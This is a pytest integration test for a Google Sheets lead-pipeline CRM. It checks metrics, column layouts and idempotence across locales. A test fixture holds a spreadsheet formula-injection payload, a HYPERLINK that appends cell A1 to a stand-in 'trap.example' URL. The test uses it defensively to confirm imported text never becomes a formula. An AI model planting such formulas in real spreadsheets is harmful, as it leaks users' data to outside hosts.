"""The whole job over HTTP, from a raw export to converted leads, with gspread as the operator.

Every metric is compared in four places: the worker's own (``status --json``), the Dashboard's formulas as the worker
and as the operator read them, and a count of this file's own, made from the Master by the words of the owner's
document. What is counted here is not counted with the product's code.
"""

import datetime as dt
import itertools
import math
from collections import Counter
from statistics import median
from zoneinfo import ZoneInfo

import pytest
from job_bench import INPUTS, STEPS, Bench, read_export, write_export

from sheets_crm import sample

pytestmark = pytest.mark.long

PEOPLE = 240
BEHIND = ("company_scrap", "box1", "instantly")
"""Steps at which two people each enter, whose lists are imported last."""
LIST = 38
"""The first line of the full list on the Dashboard, from 0."""
LOCALES = ("es_ES", "en_US")
NASTY = {
    "summary": '=HYPERLINK("https://trap.example/?x="&A1;"Ver perfil")',
    "title": "+34600123456",
    "titleDescription": 'línea uno\nlínea dos; con "comillas", y coma\ttab',
    "location": "007",
    "durationInRole": "1-2",
    "durationInCompany": "5.10",
    "firstName": "TRUE",
}
MASTER_NAMES = {
    "summary": "personSummary",
    "title": "personTitle",
    "titleDescription": "personTitleDescription",
    "location": "personLocation",
    "durationInRole": "durationInRole",
    "durationInCompany": "durationInCompany",
    "firstName": "firstName",
}


@pytest.fixture(scope="module", params=LOCALES)
def job(request, tmp_path_factory):
    """The whole job, played once in each locale."""
    with Bench(tmp_path_factory.mktemp("job"), request.param) as bench:
        bench.reports = list(play(bench))
        yield bench


def play(bench):
    """Play every step as an operator and yield what each run reported."""
    yield bench.cli("init")
    header, rows = sample.export_rows(PEOPLE)
    rows[10] = [NASTY.get(name, cell) for name, cell in zip(header, rows[10], strict=True)]
    write_export(bench.directory / "export.csv", header, rows)
    yield bench.cli("import", bench.directory / "export.csv", "--target-id", "T-1")

    bench.tick("Verification Input", 100)
    yield bench.sync()
    yield from answer(bench, "Verification Batch", sample.verification_output)
    bench.take("verification", 90)
    yield bench.sync()
    yield from answer(bench, "Verification Batch", sample.verification_output, seed=1)

    bench.tick("CompScrap Input", len(bench.records("CompScrap Input")) - 5)
    yield bench.sync()
    yield from answer(bench, "CompScrap Batch", sample.company_output)
    yield close(bench, "C-0001")

    bench.take("box1", 80)
    yield bench.sync()
    yield from answer(bench, "Box1 Batch", sample.box1_output)

    bench.tick("Instantly Input", len(bench.records("Instantly Input")) - 4)
    yield bench.sync()
    yield from answer(bench, "Instantly Batch", sample.instantly_output)

    for step in BEHIND:
        people = [
            [name, f"Behind {step}", f"{name.lower()}@{step.replace('_', '-')}.example"] for name in ("Ana", "Eva")
        ]
        write_export(bench.directory / f"{step}.csv", ["First name", "Last name", "Email"], people)
        yield bench.cli("import", bench.directory / f"{step}.csv", "--enters", step, "--target-id", "T-1")


def answer(bench, tab, tool, seed=0):
    """Paste what an outside tool answers to the shown batch, and run."""
    header, *rows = bench.rows(tab)
    bench.last_paste = tool(header, rows, seed=seed)
    bench.paste(*bench.last_paste)
    yield bench.sync()


def close(bench, batch):
    header, *rows = bench.rows("Batches")
    row = [line[0] for line in rows].index(batch) + 2
    bench.type("Batches", f"{chr(65 + header.index('close'))}{row}", [True])
    return bench.sync()


def ratio(above, below):
    return above / below if below else None


def times(*factors):
    return None if None in factors else math.prod(factors)


def counted(bench):
    """Count every metric from the Master alone, by the owner's words."""
    leads = list(bench.master().values())

    def number(**conditions):
        return sum(all(lead[name] == value for name, value in conditions.items()) for lead in leads)

    def url(lead):
        return lead["companyLinkedinUrl_fromP"] != "" or lead["companySalesUrl_fromP"] != ""

    def status(*words):
        return sum(lead["instantly_sent"] is True and lead["instantly_status"] in words for lead in leads)

    total = len(leads)
    verified = number(validation_success=True)
    verified_url = sum(lead["validation_success"] is True and url(lead) for lead in leads)
    drop, stored, hit = (number(box1_status="completed", box1_result=word) for word in ("DROP", "noHIT", "HIT"))
    box1_done = number(box1_status="completed")
    scraped, scrap_sent = number(company_scrap_status="completed"), number(company_scrap_sent=True)
    blank = sum(
        lead["company_scrap_status"] == "completed" and not any(lead[name] != "" for name in COMPANY)
        for lead in leads
    )
    sent = number(instantly_sent=True)
    replied = status("positive reply", "negative reply", "converted")
    positive, converted = status("positive reply", "converted"), status("converted")
    ready = number(box1_result="HIT", validation_success=True, box1_status="completed", instantly_sent=False)
    ready += number(enters="instantly", instantly_sent=False)
    found = {
        "leads_total": total,
        "verification_available": number(verification_sent=False, enters=""),
        "verification_sent": number(verification_sent=True),
        "verification_verified": verified,
        "verification_ratio": ratio(verified, number(verification_status="completed")),
        "verified_with_company_url": verified_url,
        "verified_with_company_url_ratio": ratio(verified_url, verified),
        "leads_with_company_url": sum(map(url, leads)),
        "leads_with_company_url_ratio": ratio(sum(map(url, leads)), total),
        "company_scrap_available": number(validation_success=True, company_scrap_sent=False)
        + number(enters="company_scrap", company_scrap_sent=False),
        "company_scrap_sent": scrap_sent,
        "company_scrap_completed": scraped,
        "company_scrap_ratio": ratio(scraped, scrap_sent),
        "company_scrap_blank": blank,
        "company_scrap_data_ratio": ratio(scraped - blank, scraped),
        "box1_available": number(company_scrap_status="completed", validation_success=True, box1_sent=False)
        + number(enters="box1", box1_sent=False),
        "box1_sent": number(box1_sent=True),
        "box1_drop": drop,
        "box1_drop_ratio": ratio(drop, box1_done),
        "box1_fit_ratio": ratio(stored + hit, box1_done),
        "box1_storage": number(storage=True),
        "box1_storage_ratio": ratio(stored, box1_done),
        "box1_hit_ratio": ratio(hit, box1_done),
        "instantly_ready": ready,
        "instantly_sent": sent,
        "instantly_reply_ratio": ratio(replied, sent),
        "instantly_positive_ratio": ratio(positive, sent),
        "instantly_conversion_ratio": ratio(converted, positive),
        "estimate_total": total,
        "verification_completed": number(verification_status="completed"),
        "box1_completed": box1_done,
        "box1_hit": hit,
        "instantly_replied": replied,
        "instantly_positive": positive,
        "instantly_converted": converted,
        "instantly_bounced": status("bounced"),
        "instantly_unsubscribed": status("unsubscribed"),
    }
    return found | estimates(found, leads) | runway(found, leads) | health(bench, leads)


def estimates(found, leads):
    """Follow each lead through the estimates: a step that it entered behind asks nothing of it."""
    shares = {
        "verified": "verification_ratio",
        "company_scrap": "company_scrap_data_ratio",
        "hit": "box1_hit_ratio",
        "positive": "instantly_positive_ratio",
        "converted": "instantly_conversion_ratio",
    }
    steps = ("", "company_scrap", "box1", "instantly")
    counts = {
        f"entered_behind_{name}": sum(steps.index(lead["enters"]) > n for lead in leads)
        for n, name in enumerate(("verification", "company_scrap", "box1"))
    }
    chances = [1.0] * len(leads)
    for n, (name, share) in enumerate(shares.items()):
        chances = [
            chance if n < steps.index(lead["enters"]) else times(chance, found[share])
            for chance, lead in zip(chances, leads, strict=True)
        ]
        counts[f"estimate_{name}"] = None if None in chances or not chances else sum(chances)
    return counts


def runway(found, leads):
    """Count the sending days with Control's first schedule: fifty on each weekday, nothing at the weekend."""

    def last_day(left):
        day = dt.datetime.now(tz=ZoneInfo("Europe/Madrid")).date()
        while (left := left - (50 if day.weekday() < 5 else 0)) > 1e-6:
            day += dt.timedelta(days=1)
        return (day - dt.date(1899, 12, 30)).days

    waiting = [
        sum(lead[f"{step}_status"] in {"ready", "processing"} for lead in leads)
        for step in ("verification", "company_scrap", "box1")
    ]
    shares = [found[name] for name in ("verification_ratio", "company_scrap_data_ratio", "box1_hit_ratio")]
    coming = sum(count * math.prod(shares[n:]) for n, count in enumerate(waiting))
    took = [
        lead["box1_completed_at"] - lead["imported_at"] for lead in leads if lead["box1_status"] == "completed"
    ]
    return {
        "feed_days": found["instantly_ready"] / 50,
        "feed_until": last_day(found["instantly_ready"]),
        "feed_days_with_pipeline": (found["instantly_ready"] + coming) / 50,
        "next_export_by": last_day(found["instantly_ready"] + coming) - math.ceil(median(took)),
    }


def health(bench, leads):
    sheets = bench.book.fetch_sheet_metadata()["sheets"]
    grids = [sheet["properties"]["gridProperties"] for sheet in sheets]
    kept = all(
        sum(lead[f"{'instantly_step' if step == 'instantly' else step}_status"] == "ready" for lead in leads)
        == len(bench.records(tab))
        for step, tab in zip(STEPS, INPUTS, strict=True)
    )
    return {
        "conservation_ok": kept,
        "cells_used_ratio": sum(grid["rowCount"] * grid["columnCount"] for grid in grids) / 10_000_000,
    }


IF_ANY = {"instantly_bounced", "instantly_unsubscribed"}
"""Metrics whose lines stand only where there is such a lead."""


def agree(one, other):
    if isinstance(one, bool) or isinstance(other, bool) or one in {None, ""} or other in {None, ""}:
        return (one if one != "" else None) == (other if other != "" else None)
    return math.isclose(one, other, rel_tol=1e-12, abs_tol=1e-12)


def test_every_metric_agrees_in_four_places(job):
    status = job.cli("status")
    shown = {line[10]: line[5] for line in job.raw("Dashboard")[LIST:] if len(line) > 10 and line[10]}
    own = counted(job)
    assert set(status["metrics"]) == set(own) | {"last_run_at"}
    for name, value in own.items():
        assert agree(status["metrics"][name], value), (name, status["metrics"][name], value)
        assert agree(status["dashboard"][name], value), (name, status["dashboard"][name], value)
        assert agree(shown.get(name, 0 if name in IF_ANY else None), value), (name, shown.get(name), value)
    assert not IF_ANY & {name for name in shown if own.get(name) == 0}  # their lines are blank
    last = max(line["when"] for line in job.records("Log"))
    assert abs(status["metrics"]["last_run_at"] - last) < 2 / 86_400
    assert abs(shown["last_run_at"] - last) < 2 / 86_400


def test_leads_come_to_every_end(job):
    found = counted(job)
    assert found["leads_total"] == PEOPLE + 2 * len(BEHIND)
    assert all(found[name] > 0 for name in found if name != "instantly_unsubscribed")
    assert found["company_scrap_available"] == 5 + 2
    assert found["instantly_ready"] == 4 + 2
    words = Counter(lead["instantly_status"] for lead in job.master().values())
    assert words["converted"] > 0
    assert words["positive reply"] > 0


def test_the_raw_export_had_what_real_ones_have(job):
    rows = read_export(job.directory / "export.csv")
    assert len(rows[0]) == 32
    assert len(rows) > PEOPLE + 6
    assert sum(not row["profileUrl"] and not row["fullName"] for row in rows) >= 2
    assert any("\n" in row["summary"] for row in rows)
    assert any(row["summary"].startswith("=") for row in rows)


PERSON = [
    "LeadNumber",
    "TargetID",
    "firstName",
    "lastName",
    "personTitle",
    "personTitleDescription",
    "personSummary",
    "personLocation",
    "durationInRole",
    "durationInCompany",
    "personTimestamp",
    "personLinkedinUrl",
    "personSalesUrl",
    "companyName_fromP",
    "companyLinkedinUrl_fromP",
    "companySalesUrl_fromP",
]
EMAIL = ["email", "email_validation", "validation_success", "firstName_cleaned", "lastName_cleaned"]
COMPANY = [
    "companyName",
    "companyDescription",
    "companyTagLine",
    "industry",
    "employeeCount",
    "companyLocation",
    "website",
    "domain",
    "yearFounded",
    "specialties",
    "phone",
    "minRevenue",
    "maxRevenue",
    "growth6Mth",
    "growth1Yr",
    "growth2Yr",
    "companyTimestampSN",
    "companyTimestampLN",
    "linkedInCompanyUrl",
    "salesNavigatorCompanyUrl",
]
SENT = {
    "Verification": PERSON,
    "CompScrap": [*PERSON, *EMAIL],
    "Box1": [*PERSON, *EMAIL, *COMPANY],
    "Instantly": [
        "LeadNumber",
        "TargetID",
        "firstName_cleaned",
        "lastName_cleaned",
        "Email",
        "Body 1",
        "Body 2",
        "Body 3",
        "Body 4",
    ],
}


@pytest.mark.parametrize("step", SENT)
def test_input_and_batch_tabs_have_the_owners_columns(job, step):
    assert job.rows(f"{step} Batch")[0] == SENT[step]
    header = [name for name in job.rows(f"{step} Input")[0] if name]
    assert sorted(header) == sorted(["send", *SENT[step], "notes"])
    # Who the lead is stands beside the tick; the others keep the owner's order.
    place = header.index("notes")
    assert header[place + 1 :] == [name for name in SENT[step] if name not in header[:place]]


def test_the_master_has_the_owners_columns_in_order(job):
    header = job.rows("Master")[0]
    assert header[: len(PERSON) + len(EMAIL) + len(COMPANY)] == [*PERSON, *EMAIL, *COMPANY]
    prompts = [f"prompt{n}_{part}" for n in range(1, 5) for part in ("version", "user_prompt", "output")]
    assert set(prompts) | {"box1_version", "box1_result", "storage", "instantly_status"} <= set(header)


def test_sending_marks_what_the_owner_says(job):
    for lead in job.master().values():
        for step in STEPS:
            sent = lead[f"{step}_sent"] is True
            assert sent == (lead[f"{step}_sent_at"] != "") == (lead[f"{step}_batch"] != ""), (lead, step)
        assert (lead["box1_version"] != "") == (lead["box1_sent"] is True)
        assert (lead["storage"] is True) == (lead["box1_result"] == "noHIT")
        assert (lead["instantly_status"] != "") == (lead["instantly_sent"] is True)


def test_text_stays_text_on_the_whole_way(job):
    wanted = [row for row in read_export(job.directory / "export.csv") if row["title"] == NASTY["title"]]
    leads = job.master()
    number = next(n for n, lead in leads.items() if lead["personSummary"] == NASTY["summary"])
    assert wanted
    for name, header in MASTER_NAMES.items():
        assert leads[number][header] == NASTY[name]
    formulas = job.dump()["FORMULA"]["Master"]
    header = formulas[0]
    row = next(line for line in formulas[1:] if line[0] == number)
    assert row[header.index("personSummary")] == NASTY["summary"]


def test_no_scraped_cell_is_a_formula(job):
    request = {"ranges": ["Master"], "fields": "sheets.data.rowData.values.userEnteredValue.formulaValue"}
    answer = job.book.client.request(
        "get", f"https://sheets.googleapis.com/v4/spreadsheets/{job.spreadsheet_id}", params=request
    ).json()
    cells = [cell for row in answer["sheets"][0]["data"][0].get("rowData", []) for cell in row.get("values", [])]
    assert len(cells) > PEOPLE
    assert not any("formulaValue" in cell.get("userEnteredValue", {}) for cell in cells)


def test_every_drops_counts_add_up(job):
    imports = job.records("Imports")[::-1]  # the newest on top
    assert [entry["step"] for entry in imports] == [
        "export",
        "verification",
        "verification",
        "company_scrap",
        "box1",
        "instantly",
        *["contactos"] * len(BEHIND),
    ]
    for entry in imports:
        parts = ("new", "updated", "unchanged", "duplicate", "rejected")
        assert sum(entry[part] or 0 for part in parts) == entry["rows"], entry
    assert imports[0]["rows"] == len(read_export(job.directory / "export.csv"))
    assert imports[0]["new"] == PEOPLE


def test_every_lead_is_in_one_state_of_each_step(job):
    leads = job.master().values()
    for step, tab in zip(STEPS, INPUTS, strict=True):
        column = "instantly_step_status" if step == "instantly" else f"{step}_status"
        states = Counter(lead[column] for lead in leads)
        assert set(states) <= {"", "ready", "processing", "completed"}
        assert {int(lead["LeadNumber"]) for lead in leads if lead[column] == "ready"} == {
            int(row["LeadNumber"]) for row in job.records(tab)
        }


def test_a_second_run_changes_nothing(job):
    job.sync()  # may write the heartbeat, which is due every ten minutes
    before, wrote = job.dump(), job.stats()["cells_written"]
    for words in (("sync", "--now"), ("sync", "--now", "--force"), ("sync",)):
        report = job.cli(*words)
        assert report["changes"] == []
    after = job.dump()
    assert job.stats()["cells_written"] == wrote
    assert after["FORMULA"] == before["FORMULA"]


def test_an_idle_run_costs_one_read_and_no_write(job):
    before = job.stats()["requests"]
    assert job.sync()["idle"] is True
    after = job.stats()["requests"]
    made = {name: count - before.get(name, 0) for name, count in after.items() if "/v4/" in name}
    assert sum(made.values()) == 1, made


def test_pasting_the_same_output_again_changes_no_lead(job):
    before, inputs = job.master(), [job.records(tab) for tab in INPUTS]
    header, rows = job.last_paste
    job.paste(header, rows)
    report = job.sync()
    assert [drop["updated"] + drop["new"] + drop["rejected"] for drop in report["drops"]] == [0]
    assert report["drops"][0]["unchanged"] + report["drops"][0]["duplicate"] == len(rows)
    assert job.master() == before
    assert [job.records(tab) for tab in INPUTS] == inputs
    assert job.rows("Inbox") in ([], [[]])


def test_importing_the_same_export_again_adds_nobody(job):
    before = job.master()
    report = job.cli("import", job.directory / "export.csv")
    assert report["drops"][0]["new"] == 0
    assert job.master() == before


@pytest.mark.parametrize("ask", ["LeadNumber", "email"])
def test_the_lead_profile_tells_one_leads_story(job, ask):
    lead = next(lead for lead in job.master().values() if lead["instantly_status"] == "converted")
    job.type("Lead Profile", "B2", [lead[ask]])
    lines = [line for line in job.raw("Lead Profile") if len(line) > 1]
    shown = {
        (line[2] if len(line) > 2 else line[0]): line[1] for line in reversed(lines)
    }  # earlier Box 1 results stand below, under the same names
    for name in (
        "firstName",
        "email",
        "companyName",
        "subject",
        "box1_result",
        "instantly_status",
        "box1_sent_at",
    ):
        assert shown[name] == lead[name], name
    job.type("Lead Profile", "B2", [""])


FIGURES = {}


def by_name(job, first):
    """The rows of a table of Versions, by name."""
    raw = job.raw("Versiones")
    start = next(n for n, row in enumerate(raw) if row and str(row[0]).startswith(first))
    heads = next(n for n in range(start, start + 4) if raw[n][0] in {"versión", "TargetID"})
    body = itertools.takewhile(lambda row: row and row[0] != "", raw[heads + 1 :])
    return {row[0]: [*row, *[""] * (21 - len(row))][:21] for row in body}


def wilson(above, below):
    """Both ends of the 95 % range of a share; blank without cases."""
    if not below:
        return ["", "", ""]
    z2, share = 1.96**2, above / below
    root = 1.96 * math.sqrt(above * (below - above) / below + z2 / 4)
    return [share, *((above + z2 / 2 + sign * root) / (below + z2) for sign in (-1, 1))]


def replies(leads):
    """Sent to Instantly, replied, positive, converted."""
    words = [lead["instantly_status"] for lead in leads if lead["instantly_sent"] is True]
    positive = sum(word in {"positive reply", "converted"} for word in words)
    return len(words), positive + words.count("negative reply"), positive, words.count("converted")


def version_row(leads):
    """What Versions has to say of the leads of one version, none of which was reopened."""
    found = [lead["box1_result"] for lead in leads if lead["box1_status"] == "completed"]
    hit, sent = found.count("HIT"), replies(leads)
    return [
        *(len(found), hit, found.count("noHIT"), found.count("DROP"), *wilson(hit, len(found))),
        *(sent[0], sent[1], *wilson(sent[1], sent[0])),
        *(sent[2], *wilson(sent[2], sent[0]), sent[3], *wilson(sent[3], sent[2])),
    ]


@pytest.mark.parametrize(
    ("title", "column"),
    [
        ("Por versión de Box 1", "box1_version"),
        *((f"Por versión del prompt {n}", f"prompt{n}_version") for n in range(1, 5)),
    ],
)
def test_every_version_of_box_1_and_of_each_prompt_is_counted_apart(job, title, column):
    leads = list(job.master().values())
    rows = by_name(job, title)
    assert set(rows) == {lead[column] for lead in leads} - {""}
    for name, row in rows.items():
        own = version_row([lead for lead in leads if lead[column] == name])
        assert all(map(agree_nearly, row[1:], own)), (name, row, own)


def agree_nearly(one, other):
    return one == other or (
        not isinstance(one, str)
        and not isinstance(other, str)
        and math.isclose(one, other, rel_tol=1e-9, abs_tol=1e-9)
    )


def test_every_target_is_counted_apart(job):
    leads, rows = list(job.master().values()), by_name(job, "Por TargetID")
    assert set(rows) == {"T-1"}
    verified, checked = (
        sum(lead[name] == value for lead in leads)
        for name, value in (("validation_success", True), ("verification_status", "completed"))
    )
    done = [lead["box1_result"] for lead in leads if lead["box1_status"] == "completed"]
    sent, replied, positive, converted = replies(leads)
    own = [
        *(len(leads), verified, *wilson(verified, checked)),
        *(sum(lead["company_scrap_status"] == "completed" for lead in leads), done.count("HIT")),
        *(*wilson(done.count("HIT"), len(done)), sent, *wilson(replied, sent), *wilson(positive, sent)),
        *wilson(converted, positive),
    ]
    assert all(map(agree_nearly, rows["T-1"][1:], own)), (rows, own)


def test_the_first_screen_shows_the_figures_of_the_list(job):
    """Cards, funnel and feed, by the owner's count; History has no day before, so that no change is shown."""
    own, raw = counted(job), job.raw("Dashboard")
    cards = ["leads_total", "verification_verified", "company_scrap_completed", "box1_hit"]
    cards += ["instantly_sent", "instantly_positive", "instantly_converted"]
    assert raw[10][:13:2] == [own[name] for name in cards]
    funnel = [*cards[:5], "instantly_replied", *cards[5:]]
    assert [row[2] for row in raw[15:23]] == [own[name] for name in funnel]
    for row, (before, now) in zip(raw[16:23], itertools.pairwise(funnel), strict=True):
        assert agree_nearly(row[3], own[now] / own[before])
    assert agree_nearly(raw[15][11], own["feed_days"])
    assert agree_nearly(raw[16][11], own["feed_days_with_pipeline"] - own["feed_days"])
    assert all(cell == "" for cell in raw[12][:14])
    assert not any(str(cell).startswith("#") and not str(cell).startswith("#gid") for row in raw for cell in row)


def test_the_figures_are_the_same_in_both_locales(job):
    times_ = {"last_run_at", "cells_used_ratio", "next_export_by"}
    figures = {name: value for name, value in job.cli("status")["dashboard"].items() if name not in times_}
    for other in FIGURES.values():
        assert figures == other
    FIGURES[job.locale] = figures
    assert not any(isinstance(value, str) for value in figures.values())
